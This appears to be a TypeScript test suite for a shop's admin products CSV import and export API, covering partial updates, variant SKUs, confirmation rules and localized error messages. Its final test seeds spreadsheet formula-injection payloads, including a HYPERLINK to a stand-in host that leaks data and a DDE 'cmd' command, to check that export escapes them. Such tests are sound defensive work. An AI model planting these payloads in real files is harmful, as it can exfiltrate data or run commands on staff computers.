import { parse } from 'csv-parse/sync';
import { bearer, startTestApp, TestApp } from '../support/test-app';
import { aProduct, asAdmin, aVariant, createCategory, createProduct, Payload } from './fixtures';

/** A product as staff see it, without the stamps a save renews (gallery rows are stored anew with a change). */
async function productAsStaffSee(shop: TestApp, id: number): Promise<Payload> {
  const res = await asAdmin(shop).get(`/api/products/admin/${id}`).expect(200);
  const { updated_at: _u, created_at: _c, images, ...rest } = res.body.data as Payload & { images: Payload[] };
  return { ...rest, images: images.map(({ id: _id, ...image }) => image) };
}

describe('products import changes only what the file says', () => {
  let shop: TestApp;
  let football: { id: number; slug: string };
  let ball: Payload & { id: number; slug: string };
  let shirt: Payload & { id: number; slug: string };

  const upload = (csv: string, query: Record<string, string> = {}) =>
    shop
      .http()
      .post('/api/products/import')
      .query(query)
      .set('Authorization', bearer(shop.adminToken))
      .attach('file', Buffer.from(csv, 'utf8'), { filename: 'products.csv', contentType: 'text/csv' });

  beforeAll(async () => {
    shop = await startTestApp();
    football = await createCategory(shop, { name: 'Football' });
    ball = await createProduct(
      shop,
      aProduct({
        name: 'Match ball',
        description: 'Size 5,\nhand stitched',
        price: 149.9,
        has_discount: true,
        discount_price: 119.9,
        stock_quantity: 12,
        low_stock_threshold: 4,
        category_ids: [football.id],
        image_url: '/uploads/ball.jpg',
        images: [{ url: '/uploads/ball-2.jpg' }, { url: '/uploads/ball-3.jpg', is_primary: true }],
        translations: [
          { language: 'he', name: 'כדור משחק', description: 'מידה 5' },
          { language: 'ru', name: 'Мяч игровой', description: 'Размер 5' },
        ],
      }),
    );
    shirt = await createProduct(
      shop,
      aProduct({
        name: 'Shirt',
        price: 80,
        stock_quantity: 0,
        has_variants: true,
        variants: [
          aVariant({ sku: 'FOO-05-XS-GREEN', size: 'XS', color: 'Green', stock_quantity: 2, low_stock_threshold: 1 }),
          aVariant({ sku: 'FOO-05-S-GREEN', size: 'S', color: 'Green', stock_quantity: 5 }),
        ],
        translations: [{ language: 'he', name: 'חולצה' }],
        images: [{ url: '/uploads/shirt.jpg' }],
      }),
    );
  });
  afterAll(() => shop.close());

  it('keeps translations, pictures, description, sale price and variants of a row that names only some columns', async () => {
    const before = await productAsStaffSee(shop, ball.id);
    const csv = `slug,name,name_he,name_ru,categories,price,stock_quantity\r\n${ball.slug},Match ball,,,${football.slug},139.90,12\r\n`;
    const dry = await upload(csv, { lang: 'en' }).expect(200);
    expect(dry.body.data).toMatchObject({ applied: false, products: 1, created: 0, updated: 1, unchanged: 0, more_changes: 0, errors: [] });
    expect(dry.body.data.changes).toEqual([
      {
        row: 2,
        slug: ball.slug,
        name: 'Match ball',
        action: 'update',
        // The sale price stays ₪119.90; its percentage follows the new price.
        fields: [
          { column: 'price', sku: null, before: '149.90', after: '139.90' },
          { column: 'discount_percentage', sku: null, before: '20', after: '14' },
        ],
      },
    ]);
    expect(await productAsStaffSee(shop, ball.id)).toEqual(before);

    await upload(csv, { mode: 'apply', confirm: '1' }).expect(200);
    expect(await productAsStaffSee(shop, ball.id)).toEqual({ ...before, price: 139.9, discount_percentage: 14 });
    const again = await upload(csv, { lang: 'en' }).expect(200);
    expect(again.body.data).toMatchObject({ updated: 0, unchanged: 1, changes: [] });
  });

  it('changes one variant named by its SKU, keeps the others and every SKU, and adds a SKU the product lacks', async () => {
    const csv =
      'slug,variant_sku,variant_stock_quantity,variant_size\r\n' +
      `${shirt.slug},FOO-05-S-GREEN,9,\r\n` +
      `${shirt.slug},FOO-05-M-GREEN,3,M\r\n`;
    const dry = await upload(csv, { lang: 'en' }).expect(200);
    expect(dry.body.data.errors).toEqual([]);
    expect(dry.body.data.changes[0].fields).toEqual([
      { column: 'variant_stock_quantity', sku: 'FOO-05-S-GREEN', before: '5', after: '9' },
      { column: 'variant_sku', sku: 'FOO-05-M-GREEN', before: '', after: 'FOO-05-M-GREEN' },
      { column: 'variant_size', sku: 'FOO-05-M-GREEN', before: '', after: 'M' },
      { column: 'variant_stock_quantity', sku: 'FOO-05-M-GREEN', before: '', after: '3' },
      { column: 'variant_price_modifier', sku: 'FOO-05-M-GREEN', before: '', after: '0.00' },
      { column: 'variant_is_active', sku: 'FOO-05-M-GREEN', before: '', after: 'yes' },
    ]);
    await upload(csv, { mode: 'apply', confirm: '1' }).expect(200);
    // The same file again finds the variant it added, by its SKU, and changes nothing.
    expect((await upload(csv, { lang: 'en' }).expect(200)).body.data).toMatchObject({ updated: 0, unchanged: 1, errors: [] });
    const after = await productAsStaffSee(shop, shirt.id);
    expect((after.variants as Payload[]).map((v) => [v.sku, v.size, v.color, v.stock_quantity, v.low_stock_threshold])).toEqual([
      ['FOO-05-XS-GREEN', 'XS', 'Green', 2, 1],
      ['FOO-05-S-GREEN', 'S', 'Green', 9, null],
      ['FOO-05-M-GREEN', 'M', null, 3, null],
    ]);
    expect(after.translations).toEqual([{ language: 'he', name: 'חולצה', description: null }]);
    expect((after.images as Payload[]).map((i) => i.url)).toEqual(['/uploads/shirt.jpg']);
  });

  it('applies only with a confirmation naming how many products change, all or nothing', async () => {
    const before = await productAsStaffSee(shop, ball.id);
    const csv = `slug,stock_quantity\r\n${ball.slug},30\r\n${shirt.slug},7\r\n`;
    const unconfirmed = await upload(csv, { mode: 'apply' }).expect(400);
    expect(unconfirmed.body).toMatchObject({ code: 'IMPORT_NOT_CONFIRMED', errors: [{ field: 'confirm' }] });
    const stale = await upload(csv, { mode: 'apply', confirm: '1' }).expect(409);
    expect(stale.body.code).toBe('IMPORT_CHANGED_SINCE_CHECK');
    await upload(csv, { mode: 'apply', confirm: 'all' }).expect(400);
    expect(await productAsStaffSee(shop, ball.id)).toEqual(before);
    const applied = await upload(csv, { mode: 'apply', confirm: '2' }).expect(200);
    expect(applied.body.data).toMatchObject({ applied: true, updated: 2 });
    expect((await productAsStaffSee(shop, ball.id)).stock_quantity).toBe(30);
  });

  it('lists the first twenty products in full and counts the rest', async () => {
    const rows = Array.from({ length: 23 }, (_, i) => `new-bottle-${i},Bottle ${i},12.00,1`);
    const res = await upload(`slug,name,price,stock_quantity\r\n${rows.join('\r\n')}\r\n`, { lang: 'en' }).expect(200);
    expect(res.body.data).toMatchObject({ created: 23, more_changes: 3, errors: [] });
    expect(res.body.data.changes).toHaveLength(20);
    expect(res.body.data.changes[0]).toMatchObject({ action: 'create', slug: 'new-bottle-0', name: 'Bottle 0' });
    expect(res.body.data.changes[0].fields).toEqual(
      expect.arrayContaining([
        { column: 'name', sku: null, before: '', after: 'Bottle 0' },
        { column: 'price', sku: null, before: '', after: '12.00' },
      ]),
    );
  });

  it('asks a new product for its name, price and stock', async () => {
    const res = await upload('slug,name,price,stock_quantity\r\nbrand-new,,12.00,\r\n', { lang: 'en' }).expect(200);
    expect(res.body.data.errors.map((e: Payload) => [e.row, e.column, e.code])).toEqual([
      [2, 'name', 'REQUIRED'],
      [2, 'stock_quantity', 'REQUIRED'],
    ]);
  });

  it('reports one product given on two rows, in the staff’s language', async () => {
    const csv = `slug,name,stock_quantity\r\n${ball.slug},Match ball,5\r\n${ball.slug},Another ball,-3\r\n`;
    const res = await upload(csv, { lang: 'he' }).expect(200);
    expect(res.body.data.errors).toEqual([
      {
        row: 3,
        column: 'slug',
        code: 'SLUG_REPEATED',
        message: `הכתובת „${ball.slug}” כבר בשימוש בשורה 2 של הקובץ: כל מוצר מופיע פעם אחת`,
      },
    ]);
  });

  it('reads Hebrew abbreviations with gershayim in unquoted cells as text, and names a broken quote by row in Hebrew and Russian', async () => {
    const csv = `slug,name,name_he,price,stock_quantity\r\nshin-pad,Shin pad 3 mm,"מגן שוק 3 מ""מ",45.00,4\r\nidf-bag,IDF bag,תיק צה"ל,120.00,2\r\n`;
    const res = await upload(csv, { lang: 'en' }).expect(200);
    expect(res.body.data.errors).toEqual([]);
    const names = res.body.data.changes.map((c: { fields: Payload[] }) => c.fields.find((f) => f.column === 'name_he')!.after);
    expect(names).toEqual(['מגן שוק 3 מ"מ', 'תיק צה"ל']);

    const broken = `slug,name,price,stock_quantity\r\nok,Ok,1.00,1\r\nbad,"Open quote,1.00,1\r\n`;
    const he = await upload(broken, { lang: 'he' }).expect(200);
    expect(he.body.data.errors).toEqual([expect.objectContaining({ row: 3, column: '', code: 'QUOTE_NOT_CLOSED' })]);
    expect(he.body.data.errors[0].message).toMatch(/^תא שמתחיל במירכאות/);
    const ru = await upload(broken, { lang: 'ru' }).expect(200);
    expect(ru.body.data.errors[0].message).toMatch(/^Ячейка, начинающаяся с кавычки/);
  });

  it('exports a formula-like name as text and reads it back as it was: the round trip changes nothing', async () => {
    const names = ['=HYPERLINK("http://x.example/?leak","click me")', '+SUM(1,2)', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)'];
    for (const [index, name] of names.entries()) {
      await createProduct(shop, aProduct({ name, slug: `formula-${index}`, description: `=1+${index}` }));
    }
    const exported = await shop.http().get('/api/products/export').set('Authorization', bearer(shop.adminToken)).buffer(true).expect(200);
    const rows: Array<Record<string, string>> = parse(exported.text, { bom: true, columns: true });
    const formulaRows = rows.filter((r) => r.slug.startsWith('formula-'));
    expect(formulaRows.map((r) => r.name)).toEqual(names.map((name) => `'${name}`));
    expect(formulaRows.map((r) => r.description)).toEqual(['0', '1', '2', '3'].map((i) => `'=1+${i}`));
    const back = await upload(exported.text, { lang: 'en' }).expect(200);
    expect(back.body.data).toMatchObject({ created: 0, updated: 0, changes: [], errors: [] });
  });
});
